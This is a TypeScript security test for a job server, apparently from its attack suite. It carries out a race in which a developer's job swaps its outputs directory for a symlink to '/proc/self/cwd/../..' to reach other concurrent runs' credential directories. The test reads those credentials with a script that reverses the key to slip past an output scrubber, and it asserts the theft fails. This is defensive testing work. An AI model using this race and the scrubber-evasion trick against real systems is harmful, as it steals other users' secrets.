import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, renameSync, rmSync, symlinkSync, watch, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { makeCanary } from "../support/scratch.js";
import { call, finalRun, follow, outputOf, startServer, type TestServer, waitFor } from "./support.js";

/**
 * Attacks on the run's namespace setup by a developer in the socket group who controls the
 * repository, the committed code and the names under outputs/ (docs/jobserver.md, "Threat model":
 * "A job cannot read another job's credentials").
 *
 * The run's init binds a `keep` directory (the outputs inside a committed copy) from its live
 * path after hiding the server's paths, but before it leaves the stage directory it chdir'ed
 * into. The outputs name is checked (openRunLog, no symbolic link) before the init runs, and not
 * again: the developer, woken by inotify when the run's log appears in outputs/logs, swaps
 * outputs for a link to `/proc/self/cwd/../..`. The init resolves it from its cwd, the stage
 * mount: `..` from a mount's root climbs to where it is mounted, the run's directory in the
 * runtime file system, *under* the tmpfs that hides the runtime directory, and `..` again
 * reaches `runs/`, on which nothing is mounted. The job gets every concurrent run's directory,
 * credentials included, bound writable at its outputs path.
 */

const RUNTIME = mkdtempSync("/dev/shm/keyhold-attack-rt-");

describe("attack: outputs swapped for a link while the run's init lays out its mounts", () => {
  const victimKey = makeCanary("victim");
  let s: TestServer;
  let repo: string;
  const git = (dir: string, ...args: string[]) =>
    execFileSync("git", ["-C", dir, "-c", "user.name=t", "-c", "user.email=t@example.org", ...args], {
      encoding: "utf8",
      stdio: "pipe",
    });

  before(async () => {
    s = await startServer({
      credentials: { victim_key: victimKey },
      // As under the unit: per-run credential directories in $RUNTIME_DIRECTORY/runs.
      env: { RUNTIME_DIRECTORY: RUNTIME },
      config: ({ root, outputs }) => ({
        concurrency: 2,
        killGraceSeconds: 1,
        jobs: {
          victim: {
            argv: ["/bin/sh", "-c", "sleep 20"],
            cwd: root,
            credentials: ["victim_key"],
            outputDir: outputs,
          },
          thief: {
            argv: ["/bin/sh", "thief.sh"],
            cwd: join(root, "repo"),
            outputDir: join(root, "repo", "outputs"),
            codePolicy: "committed",
          },
        },
      }),
    });
    repo = join(s.root, "repo");
    mkdirSync(join(repo, "outputs", "logs"), { recursive: true, mode: 0o755 });
    git(repo, "init", "-q");
    // The committed job: reads whatever run directories its outputs show, the key reversed so
    // the scrubber does not know it.
    writeFileSync(
      join(repo, "thief.sh"),
      'for f in outputs/run-*/credentials-*/*; do [ -f "$f" ] && echo "stolen:$(rev < "$f")"; done; true\n',
    );
    writeFileSync(join(repo, ".gitignore"), "outputs/\n");
    git(repo, "add", "-A");
    git(repo, "commit", "-qm", "thief");
  });

  after(async () => {
    await s.cleanup();
    rmSync(RUNTIME, { recursive: true, force: true });
  });

  test("a committed job of one developer reads the credentials of another job running at the same time", {
    todo: "keep binds resolve a developer's path after the logs check: /proc/self/cwd/../.. reaches $RUNTIME_DIRECTORY/runs",
  }, async () => {
    const victim = await call(s.socket, "POST", "/v1/jobs/victim/runs", "{}", {
      "Content-Type": "application/json",
    });
    assert.equal(victim.status, 202, victim.text);
    const victimId = (JSON.parse(victim.text) as { run: { id: string } }).run.id;
    await waitFor("the victim to run", async () => {
      const r = await call(s.socket, "GET", `/v1/runs/${victimId}`);
      return (JSON.parse(r.text) as { run: { state: string } }).run.state === "running" ? true : undefined;
    });

    const outputs = join(repo, "outputs");
    let swapped = false;
    const watcher = watch(join(outputs, "logs"), (_event, name) => {
      if (swapped || !String(name).endsWith(".log")) return;
      swapped = true;
      renameSync(outputs, `${outputs}.real`);
      symlinkSync("/proc/self/cwd/../..", outputs);
    });
    let text = "";
    try {
      const { events } = await follow(s.socket, "thief");
      text = outputOf(events);
      finalRun(events);
    } finally {
      watcher.close();
      if (swapped) {
        rmSync(outputs);
        renameSync(`${outputs}.real`, outputs);
      }
      await call(s.socket, "DELETE", `/v1/runs/${victimId}`).catch(() => undefined);
    }
    const stolen = [...text.matchAll(/^stolen:(.*)$/gm)].map((m) => [...(m[1] as string)].reverse().join(""));
    assert.ok(!stolen.includes(victimKey), "the thief read another job's key (reversed, past the scrubber)");
  });
});
